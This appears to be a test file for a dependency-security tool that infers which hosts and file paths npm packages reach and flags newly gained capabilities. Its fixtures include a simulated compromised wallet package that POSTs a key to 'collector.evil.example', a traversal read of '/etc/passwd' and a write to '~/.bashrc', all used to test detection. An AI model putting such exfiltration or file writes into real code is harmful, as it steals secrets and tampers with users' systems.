// Inference of hosts and paths: which calls name a host or a path for certain (with file:line evidence),
// which leave them open (computed), how a package's facts become its `net` and `fs`, and how a new host
// shows as a gained capability in `packsec check`.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { analyzeProject, analyzeSource, type FileFacts, type PackageAnalysis } from '../src/analyze/index.js';
import { pathGrantOf } from '../src/analyze/package.js';
import { runCli, tmpProject, type Files } from './helpers.js';

const facts = (src: string, kind: 'commonjs' | 'module' = 'commonjs'): FileFacts => analyzeSource(src, { kind });
const hosts = (src: string, kind: 'commonjs' | 'module' = 'commonjs') =>
  facts(src, kind).hosts.map((h) => (h.host === null ? '?' : h.port === null ? h.host : `${h.host}:${h.port}`));
const paths = (src: string, file = 'lib/index.js', kind: 'commonjs' | 'module' = 'commonjs') =>
  facts(src, kind).paths.map((p) => `${p.access}:${pathGrantOf(p, file) ?? '?'}`);

describe('hosts named by calls', () => {
  it('reads the host of literal URLs, templates, constants, URL objects and options', () => {
    assert.deepEqual(hosts("require('https').get('https://registry.npmjs.org/left-pad')"), ['registry.npmjs.org']);
    assert.deepEqual(hosts("const http = require('http'); http.request(`http://api.example.com:8080/v1/${id}`)"), ['api.example.com:8080']);
    assert.deepEqual(hosts("const BASE = 'https://api.example.com'; fetch(BASE + '/users/' + id)"), ['api.example.com']);
    assert.deepEqual(hosts("fetch(new URL('/x', 'https://Cdn.Example.com.'))"), ['cdn.example.com']);
    assert.deepEqual(hosts("require('http').get({ hostname: 'example.org', port: 8443, path: '/' })"), ['example.org:8443']);
    assert.deepEqual(hosts("const o = { host: '127.1', port: '5432' }; require('http').request(o)"), ['127.0.0.1:5432']);
    assert.deepEqual(hosts("require('net').connect(6379)"), ['localhost:6379']);
    assert.deepEqual(hosts("require('net').connect(6379, 'cache.internal')"), ['cache.internal:6379']);
    assert.deepEqual(hosts("require('tls').connect({ host: '[::1]', port: 443 })"), ['[::1]:443']);
    assert.deepEqual(hosts("require('net').connect('/var/run/app.sock')"), ['unix:/var/run/app.sock']);
    assert.deepEqual(hosts("require('http').get({ socketPath: '/tmp/docker.sock', path: '/containers' })"), ['unix:/tmp/docker.sock']);
    assert.deepEqual(hosts("require('http2').connect('https://bücher.example')"), ['xn--bcher-kva.example']);
    assert.deepEqual(hosts("require('dns').lookup('example.com', cb); require('dns').promises.resolve4('example.net')"), ['example.com', 'example.net']);
    assert.deepEqual(hosts("new WebSocket('wss://stream.example.com/feed')"), ['stream.example.com']);
    assert.deepEqual(hosts("import { get } from 'node:https';\nget('https://esm.example.com/');", 'module'), ['esm.example.com']);
  });

  it('reads hosts from HTTP client packages: axios (and its baseURL), got, node-fetch, ws, undici', () => {
    assert.deepEqual(hosts("const axios = require('axios'); axios.get('https://a.example.com/x'); axios.create({ baseURL: 'https://b.example.com/api' })"), ['a.example.com', 'b.example.com']);
    assert.deepEqual(hosts("import axios from 'axios';\naxios({ url: 'https://c.example.com' });", 'module'), ['c.example.com']);
    assert.deepEqual(hosts("require('got')('https://d.example.com'); require('got').extend({ prefixUrl: 'https://e.example.com' })"), ['d.example.com', 'e.example.com']);
    assert.deepEqual(hosts("const fetch = require('node-fetch'); fetch('https://f.example.com')"), ['f.example.com']);
    assert.deepEqual(hosts("const WebSocket = require('ws'); new WebSocket('ws://g.example.com:9000')"), ['g.example.com:9000']);
    assert.deepEqual(hosts("import { request } from 'undici';\nrequest('https://h.example.com');", 'module'), ['h.example.com']);
  });

  it('leaves computed hosts open: parameters, computed hosts in templates, the module handed on, sockets made unconnected', () => {
    assert.deepEqual(hosts("require('https').get(url)"), ['?']);
    assert.deepEqual(hosts('fetch(`https://${region}.example.com/`)'), ['?']);
    assert.deepEqual(hosts("fetch('https://example.com' + suffix)"), ['?'], 'the host could go on');
    assert.deepEqual(hosts("require('https').get({ ...defaults, host: 'x.com' })"), ['?']);
    assert.deepEqual(hosts("use(require('http'))"), ['?']);
    assert.deepEqual(hosts("new (require('net').Socket)()"), ['?']);
    assert.deepEqual(hosts("require('dgram').createSocket('udp4')"), ['?']);
    assert.deepEqual(hosts("require('axios').get(url)"), ['?']);
    assert.deepEqual(hosts("let base = 'https://a.com'; base += '.evil.com'; fetch(base)"), ['?'], 'a name changed after its first value');
  });

  it('sees no host where nothing connects: servers, data exports, typeof tests', () => {
    assert.deepEqual(hosts("const http = require('http'); http.createServer(() => {}).listen(3000); http.STATUS_CODES[404]; typeof http.get"), []);
  });
});

describe('paths named by calls', () => {
  it('maps paths in the package to $package, and tmp, home and absolute paths to their grants', () => {
    assert.deepEqual(paths("const fs = require('fs'); const path = require('path'); fs.readFileSync(path.join(__dirname, '..', 'data', 'x.json'))"), ['read:$package']);
    assert.deepEqual(paths("require('fs').readFileSync(__dirname + '/template.html')"), ['read:$package']);
    assert.deepEqual(paths("import { readFileSync } from 'node:fs';\nreadFileSync(new URL('./x.json', import.meta.url));", 'index.mjs', 'module'), ['read:$package']);
    assert.deepEqual(paths("import fs from 'node:fs'; import path from 'node:path'; import { fileURLToPath } from 'node:url';\nconst dir = path.dirname(fileURLToPath(import.meta.url));\nfs.readFileSync(path.join(dir, 'x.json'));", 'index.mjs', 'module'), ['read:$package']);
    assert.deepEqual(paths("const fs = require('fs'); const os = require('os'); const path = require('path'); fs.writeFileSync(path.join(os.tmpdir(), 'my-cache', key), x)"), ['write:$tmp/my-cache']);
    assert.deepEqual(paths("require('fs').mkdirSync(require('path').join(require('os').homedir(), '.config', 'tool'))"), ['write:$home/.config/tool']);
    assert.deepEqual(paths("require('fs').readFileSync('/etc/ssl/certs/' + name)"), ['read:/etc/ssl/certs']);
    assert.deepEqual(paths("const fs = require('fs'); fs.copyFileSync(__dirname + '/a', '/tmp/b')"), ['read:$package', 'write:/tmp/b']);
    assert.deepEqual(paths("const fs = require('fs'); fs.symlinkSync('/opt/x', __dirname + '/l')"), ['write:$package', 'read:/opt/x']);
    assert.deepEqual(paths("const fs = require('fs'); fs.openSync(__dirname + '/log', 'a')"), ['write:$package']);
    assert.deepEqual(paths("const fs = require('fs'); const fd = fs.openSync(__dirname + '/x', 'r'); fs.readSync(fd, b); fs.writeSync(1, 'x')"), ['read:$package']);
  });

  it('leaves computed paths open: parameters, the working folder, paths climbing out of the package, descriptors from elsewhere', () => {
    assert.deepEqual(paths("require('fs').readFileSync(file)"), ['read:?']);
    assert.deepEqual(paths("require('fs').readFileSync('config.json')"), ['read:?'], 'relative to the working folder');
    assert.deepEqual(paths("require('fs').readFileSync(process.cwd() + '/x')"), ['read:?']);
    assert.deepEqual(paths("require('fs').readFileSync(__dirname + '/../../../etc/passwd')", 'index.js'), ['read:?']);
    assert.deepEqual(paths("require('fs').readFileSync('/' + x)"), ['read:?']);
    assert.deepEqual(paths("require('fs').readSync(fd, b)"), ['read:?']);
    assert.deepEqual(paths("const { promisify } = require('util'); promisify(require('fs').readFile)"), ['read:?']);
    assert.deepEqual(paths("const fs = require('fs'); fs.existsSync(fs.constants ? p : q)"), ['read:?']);
  });
});

describe('a package\'s net and fs', () => {
  async function analyzed(files: Files): Promise<PackageAnalysis> {
    const result = await analyzeProject(tmpProject({ 'node_modules/p/package.json': { name: 'p', version: '1.0.0', main: 'index.js' }, ...files }), { cacheFile: null, workers: 1 });
    return result.packages.find((x) => x.name === 'p')!;
  }

  it('restricts to the named hosts and paths when all are known, with evidence for each', async () => {
    const p = await analyzed({ 'node_modules/p/index.js': "const fs = require('fs');\nmodule.exports = () => [require('https').get('https://api.example.com/x'), fs.readFileSync(__dirname + '/x.json')];\n" });
    assert.deepEqual({ net: p.entry.net, fs: p.entry.fs }, { net: ['api.example.com'], fs: { read: ['$package'] } });
    assert.equal(p.evidence['net:api.example.com']?.[0]?.line, 2);
    assert.equal(p.evidence['fs.read:$package']?.[0]?.file, 'node_modules/p/index.js');
  });

  it('keeps any host ("*") beside the named ones when some are computed, and no net when none is named', async () => {
    const some = await analyzed({ 'node_modules/p/index.js': "const https = require('https');\nmodule.exports = (u) => [https.get(u), https.get('https://telemetry.example.com')];\n" });
    assert.deepEqual(some.entry.net, ['*', 'telemetry.example.com']);
    assert.match(some.evidence['net:*']?.[0]?.text ?? '', /^hosts: unknown \(computed\) in https\.get/);
    const none = await analyzed({ 'node_modules/p/index.js': "module.exports = (u) => require('https').get(u);\n" });
    assert.equal(none.entry.net, undefined);
    assert.equal(none.evidence['net:*']?.[0]?.line, 1);
  });

  it('leaves fs open when one path is computed', async () => {
    const p = await analyzed({ 'node_modules/p/index.js': "const fs = require('fs');\nmodule.exports = (f) => [fs.readFileSync(__dirname + '/x'), fs.readFileSync(f)];\n" });
    assert.equal(p.entry.fs, undefined);
    assert.match(p.evidence['fs.read:*']?.[0]?.text ?? '', /^paths: unknown \(computed\) in fs\.readFileSync/);
  });

  it('includes what the packages it loads reach: their hosts join, and one with computed hosts opens it', async () => {
    const pkgs = (deps: Record<string, string>) => Object.fromEntries(Object.entries(deps).flatMap(([name, code]) => [
      [`node_modules/${name}/package.json`, { name, version: '1.0.0', main: 'index.js' }], [`node_modules/${name}/index.js`, code]]));
    const widened = await analyzed({
      'node_modules/p/index.js': "const sdk = require('sdk');\nmodule.exports = () => [fetch('https://api.example.com'), sdk.login()];\n",
      ...pkgs({ sdk: "module.exports = { login: () => fetch('https://auth.example.com/token') };\n" }),
    });
    assert.deepEqual(widened.entry.net, ['api.example.com', 'auth.example.com']);
    assert.match(widened.evidence['net:auth.example.com']?.[0]?.text ?? '', /hosts of package sdk, which it loads/);
    const opened = await analyzed({
      'node_modules/p/index.js': "const sdk = require('sdk');\nmodule.exports = () => [fetch('https://api.example.com'), sdk.call()];\n",
      ...pkgs({ sdk: "const more = require('more');\nmodule.exports = { call: () => more() };\n", more: 'module.exports = (u) => fetch(u);\n' }),
    });
    assert.deepEqual(opened.entry.net, ['*', 'api.example.com'], 'through sdk, then more');
    assert.match(opened.evidence['net:*']?.[0]?.text ?? '', /unknown \(computed\) in package more, which it loads/);
  });

  it('opens fs when a package it loads reads its own folder or computed paths, and joins other paths', async () => {
    const dep = (name: string, code: string) => ({ [`node_modules/${name}/package.json`]: { name, version: '1.0.0', main: 'index.js' }, [`node_modules/${name}/index.js`]: code });
    const own = "const fs = require('fs');\nmodule.exports = () => fs.readFileSync(__dirname + '/x');\n";
    const opened = await analyzed({ 'node_modules/p/index.js': "const fs = require('fs'); const d = require('d');\nmodule.exports = () => [fs.readFileSync(__dirname + '/x'), d()];\n", ...dep('d', own) });
    assert.equal(opened.entry.fs, undefined);
    const joined = await analyzed({
      'node_modules/p/index.js': "const fs = require('fs'); const d = require('d');\nmodule.exports = () => [fs.readFileSync(__dirname + '/x'), d()];\n",
      ...dep('d', "const fs = require('fs'); const os = require('os');\nmodule.exports = () => fs.writeFileSync(os.tmpdir() + '/d.log', '');\n"),
    });
    assert.deepEqual(joined.entry.fs, { read: ['$package'], write: ['$tmp/d.log'] });
  });

  it('an HTTP client package connects where its caller says: its own open hosts do not open the caller', async () => {
    const p = await analyzed({
      'node_modules/p/index.js': "const fetch = require('node-fetch');\nmodule.exports = () => fetch('https://api.example.com/x');\n",
      'node_modules/node-fetch/package.json': { name: 'node-fetch', version: '2.0.0', main: 'index.js' },
      'node_modules/node-fetch/index.js': "module.exports = (u) => require('https').get(u);\n",
    });
    assert.deepEqual(p.entry.net, ['api.example.com']);
  });

  it('a package calling axios with literal URLs gets those hosts', async () => {
    const p = await analyzed({
      'node_modules/p/index.js': "const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://api.github.com' });\nmodule.exports = () => api.get('/users');\n",
      'node_modules/axios/package.json': { name: 'axios', version: '1.0.0' },
    });
    assert.deepEqual(p.entry.net, ['api.github.com']);
  });
});

describe('packsec check and a new host', () => {
  it('fails when a package starts naming another host, with file:line', () => {
    const dir = tmpProject({
      'node_modules/wallet/package.json': { name: 'wallet', version: '1.0.0', main: 'index.js' },
      'node_modules/wallet/index.js': "module.exports = (tx) => fetch('https://api.mainnet-beta.solana.com', { method: 'POST', body: tx });\n",
    });
    assert.equal(runCli(['init', '--offline'], dir).code, 0);
    assert.equal(runCli(['check'], dir).code, 0);
    writeFileSync(join(dir, 'node_modules/wallet/index.js'), "module.exports = (tx, key) => { fetch('https://collector.evil.example/k', { method: 'POST', body: key });\n  return fetch('https://api.mainnet-beta.solana.com', { method: 'POST', body: tx }); };\n");
    const r = runCli(['check', '--json'], dir);
    assert.equal(r.code, 1);
    const gained = (JSON.parse(r.stdout) as { problems: { kind: string; package: string; details: string[] }[] }).problems.find((p) => p.kind === 'gained');
    assert.deepEqual(gained?.details, ['net:collector.evil.example  (node_modules/wallet/index.js:1)']);
    assert.match(runCli(['check'], dir).stderr, /\+ net:collector\.evil\.example/);
  });

  it('fails when a package\'s hosts become unknown (it may now reach any host), and when it writes a wider path', () => {
    const dir = tmpProject({
      'node_modules/p/package.json': { name: 'p', version: '1.0.0', main: 'index.js' },
      'node_modules/p/index.js': "const fs = require('fs');\nmodule.exports = () => [fetch('https://a.example.com'), fs.writeFileSync(__dirname + '/cache', '')];\n",
    });
    assert.equal(runCli(['init', '--offline'], dir).code, 0);
    writeFileSync(join(dir, 'node_modules/p/index.js'), "const fs = require('fs'); const os = require('os');\nmodule.exports = (u) => [fetch(u), fs.writeFileSync(os.homedir() + '/.bashrc', '')];\n");
    const r = runCli(['check', '--json'], dir);
    assert.equal(r.code, 1);
    const gained = (JSON.parse(r.stdout) as { problems: { kind: string; details: string[] }[] }).problems.find((p) => p.kind === 'gained');
    assert.ok(gained?.details.includes('net:*  (node_modules/p/index.js:2)'), gained?.details.join('\n'));
    assert.ok(gained?.details.includes('fs.write:$home/.bashrc  (node_modules/p/index.js:2)'), gained?.details.join('\n'));
  });
});
